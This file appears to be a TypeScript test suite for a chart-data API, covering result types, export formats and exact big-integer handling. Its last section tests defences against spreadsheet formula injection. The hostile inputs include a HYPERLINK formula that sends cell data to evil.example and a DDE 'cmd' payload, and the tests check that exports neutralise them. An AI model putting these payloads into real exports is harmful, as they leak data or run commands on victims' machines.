// Every result_type and result_format, on both engines, with integers beyond 2^53 exact on every wire.
import ExcelJS from 'exceljs';
import { tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv, toXlsx } from '../../../server/chartdata/serialize';
import { BUILTIN_TIME_GRAINS } from '../../../src/core/sql';
import {
  ENGINES,
  FIRST_ID,
  ROWS,
  eventRows,
  firstResult,
  parseBig,
  qc,
  rowsOf,
  startChartDataFixture,
  type ChartDataFixture,
} from './fixture';

let f: ChartDataFixture;
beforeAll(async () => {
  f = await startChartDataFixture();
});
afterAll(async () => f.close());

const idsQuery = { columns: ['id', 'category'], metrics: [], orderby: [['id', true]], row_limit: 5 };
const lastId = FIRST_ID + BigInt(ROWS - 1);

describe.each(ENGINES)('[QC-RT] result types on %s', (engine) => {
  it('full: the whole payload with cache and time fields', async () => {
    const r = firstResult(
      await f.chartData(
        qc(f, engine, {
          columns: ['category'],
          metrics: ['count'],
          orderby: [['count', false]],
          time_range: 'No filter',
        }),
      ),
    );
    for (const key of [
      'cache_key',
      'cached_dttm',
      'cache_timeout',
      'is_cached',
      'query',
      'status',
      'error',
      'stacktrace',
      'rowcount',
      'colnames',
      'coltypes',
      'data',
      'applied_filters',
      'rejected_filters',
      'annotation_data',
      'from_dttm',
      'to_dttm',
    ]) {
      expect(r, key).toHaveProperty(key);
    }
    expect(r.coltypes).toEqual([1, 0]);
    expect(r.query).toMatch(/^SELECT/);
  });

  it('coltypes say number, string, temporal and boolean', async () => {
    const r = firstResult(
      await f.chartData(qc(f, engine, { columns: ['amount', 'name', 'ts', 'flag'], metrics: [], row_limit: 1 })),
    );
    expect(r.coltypes).toEqual([0, 1, 2, 3]);
    expect(typeof r.data[0]?.ts).toBe('number');
  });

  it('samples: dataset rows, no metrics', async () => {
    const r = firstResult(
      await f.chartData(
        qc(f, engine, { columns: ['category'], metrics: ['count'], row_limit: 7 }, { result_type: 'samples' }),
      ),
    );
    expect(r.colnames).toEqual(['id', 'ts', 'category', 'name', 'amount', 'qty', 'flag', 'double_qty']);
    expect(r.rowcount).toBe(7);
  });

  it('drill_detail: dataset rows under the filters, ordered by the first column', async () => {
    const r = firstResult(
      await f.chartData(
        qc(
          f,
          engine,
          { columns: ['category'], metrics: ['count'], filters: [{ col: 'category', op: '==', val: 'beta' }] },
          { result_type: 'drill_detail' },
        ),
      ),
    );
    expect(r.rowcount).toBe(eventRows().filter((x) => x.category === 'beta').length);
    expect(r.data.every((x) => x.category === 'beta')).toBe(true);
    const ids = r.data.map((x) => x.id as bigint);
    expect([...ids].sort((a, b) => (a < b ? -1 : 1))).toEqual(ids);
  });

  it('query: the SQL with values inlined, nothing executed', async () => {
    const res = await f.chartData(
      qc(
        f,
        engine,
        { columns: ['category'], metrics: ['count'], filters: [{ col: 'name', op: '==', val: "O'Brien" }] },
        { result_type: 'query' },
      ),
    );
    const r = parseBig<{ result: Array<{ language: string; query: string }> }>(res.body).result[0];
    expect(r?.language).toBe('sql');
    expect(r?.query).toContain("'O''Brien'");
    expect(Object.keys(r ?? {})).not.toContain('data');
  });

  it('results: only data, colnames, coltypes and counts', async () => {
    const r = firstResult(await f.chartData(qc(f, engine, idsQuery, { result_type: 'results' })));
    expect(Object.keys(r).sort()).toEqual(['colnames', 'coltypes', 'data', 'rowcount', 'sql_rowcount']);
    expect(r.rowcount).toBe(5);
  });

  it('columns: the dataset columns with types', async () => {
    const r = firstResult(await f.chartData(qc(f, engine, idsQuery, { result_type: 'columns' })));
    expect(r.data.map((c) => c.column_name)).toContain('double_qty');
    expect(Object.keys(r.data[0] ?? {})).toEqual(['column_name', 'verbose_name', 'dtype']);
  });

  it('timegrains: every built-in grain', async () => {
    const r = firstResult(await f.chartData(qc(f, engine, idsQuery, { result_type: 'timegrains' })));
    expect(r.data.map((g) => g.duration)).toEqual(BUILTIN_TIME_GRAINS.map((g) => g.duration));
    expect(Object.keys(r.data[0] ?? {})).toEqual(['name', 'function', 'duration']);
  });

  it('post_processed: the full payload after table post-processing', async () => {
    const r = firstResult(
      await f.chartData(
        qc(
          f,
          engine,
          { columns: ['category'], metrics: ['total_amount'], orderby: [['total_amount', false]] },
          { result_type: 'post_processed', form_data: { viz_type: 'table' } },
        ),
      ),
    );
    expect(r.status).toBe('success');
    expect(r.data.map((x) => x.category)).toEqual(['gamma', 'beta', 'alpha', null]);
  });
});

describe.each(ENGINES)('[QC-RF] result formats on %s', (engine) => {
  it('json writes integers beyond 2^53 as bare exact literals', async () => {
    const res = await f.chartData(qc(f, engine, idsQuery));
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.body).toContain(`"id":${FIRST_ID.toString()},`);
    const r = firstResult(res);
    expect(r.data.map((x) => x.id)).toEqual([0n, 1n, 2n, 3n, 4n].map((i) => FIRST_ID + i));
    const max = firstResult(await f.chartData(qc(f, engine, { columns: [], metrics: ['max_id'] })));
    expect(max.data[0]?.max_id).toBe(lastId);
  });

  it('csv has verbose headers and exact big integers', async () => {
    const res = await f.chartData(
      qc(
        f,
        engine,
        { columns: ['category'], metrics: ['total_amount', 'max_id'], orderby: [['total_amount', false]] },
        { result_format: 'csv' },
      ),
    );
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe('category,Total amount,max_id');
    const gamma = eventRows().filter((x) => x.category === 'gamma');
    expect(lines[1]).toBe(`gamma,${gamma.reduce((s, x) => s + x.amount, 0)},${gamma.at(-1)?.id.toString()}`);
    expect(lines).toHaveLength(5);
  });

  it('xlsx is a workbook with the same cells; big integers as exact text', async () => {
    const res = await f.chartData(qc(f, engine, idsQuery, { result_format: 'xlsx' }));
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    expect(sheet?.getRow(1).values).toEqual([undefined, 'id', 'category']);
    expect(sheet?.getRow(2).getCell(1).value).toBe(FIRST_ID.toString());
    expect(sheet?.rowCount).toBe(6);
  });

  it('arrow is an IPC stream with int64 ids exact and timestamps', async () => {
    const res = await f.chartData(
      qc(
        f,
        engine,
        { columns: ['id', 'ts', 'amount', 'flag'], metrics: [], orderby: [['id', true]], row_limit: 1000 },
        { result_format: 'arrow' },
      ),
    );
    expect(res.headers['content-type']).toBe('application/vnd.apache.arrow.stream');
    const table = tableFromIPC(res.rawPayload);
    expect(table.numRows).toBe(ROWS);
    expect(String(table.schema.fields.find((x) => x.name === 'id')?.type)).toBe('Int64');
    const ids = table.getChild('id')?.toArray() as BigInt64Array;
    expect(ids[0]).toBe(FIRST_ID);
    expect(ids[ROWS - 1]).toBe(lastId);
    expect(table.getChild('ts')?.get(0)).toBe(Date.UTC(2022, 0, 1));
  });

  it('several queries as csv come back as a zip', async () => {
    const body = qc(f, engine, idsQuery, { result_format: 'csv' });
    const res = await f.chartData({ ...body, queries: [idsQuery, { columns: ['category'], metrics: ['count'] }] });
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });

  it('same rows through json and arrow', async () => {
    const query = {
      columns: ['category', 'qty'],
      metrics: ['count', 'total_amount'],
      orderby: [
        ['total_amount', false],
        ['qty', true],
      ],
      row_limit: 100,
    };
    const json = firstResult(await f.chartData(qc(f, engine, query)));
    const arrow = tableFromIPC((await f.chartData(qc(f, engine, query, { result_format: 'arrow' }))).rawPayload);
    const fromArrow = arrow
      .toArray()
      .map((row: Record<string, unknown>) =>
        json.colnames.map((c) => (typeof row[c] === 'bigint' ? Number(row[c]) : row[c])),
      );
    expect(fromArrow).toEqual(rowsOf(json));
  });
});

describe('hole 5: CSV and XLSX exports never write a cell a spreadsheet runs as a formula', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\tx',
    '\rx',
    'plain',
    '-12.5',
    'a=b',
  ];
  const result = {
    names: ['text', 'amount', '=header'],
    types: ['VARCHAR', 'DOUBLE', 'VARCHAR'],
    columns: [hostile, hostile.map((_, i) => -1 - 1.5 * i), hostile.map(() => null)],
    rowCount: hostile.length,
  };
  const expected = [
    '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "'+1+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\tx",
    "'\rx",
    'plain',
    '-12.5',
    'a=b',
  ];

  it('csv: text starting with = + - @ tab or CR gets a leading quote; numbers and negative numbers in text stay as they are', () => {
    const text = toCsv(result);
    const lines = text.split('\n');
    expect(lines[0]).toBe("text,amount,'=header");
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1,');
    expect(lines[2]).toBe("'+1+cmd|' /C calc'!A0,-2.5,");
    expect(lines[3]).toBe("'-2+3,-4,");
    expect(lines[4]).toBe("'@SUM(A1:A9),-5.5,");
    expect(text).toContain("'\tx,-7,");
    expect(text).toContain('"\'\rx",-8.5,');
    expect(text).toContain('plain,-10,\n-12.5,-11.5,\na=b,-13,');
  });

  it('xlsx: the same cells as text with a leading quote; numbers stay numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx(result)) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    expect(sheet?.getRow(1).getCell(3).value).toBe("'=header");
    // XML reads a carriage return back as a line feed.
    const lf = (v: unknown): string => String(v).replace(/\r/g, '\n');
    expect(hostile.map((_, i) => lf(sheet?.getRow(i + 2).getCell(1).value))).toEqual(expected.map(lf));
    expect(hostile.map((_, i) => sheet?.getRow(i + 2).getCell(2).value)).toEqual(hostile.map((_, i) => -1 - 1.5 * i));
    for (let r = 1; r <= hostile.length + 1; r++)
      for (let c = 1; c <= 3; c++) expect(sheet?.getRow(r).getCell(c).formula).toBeUndefined();
  });
});
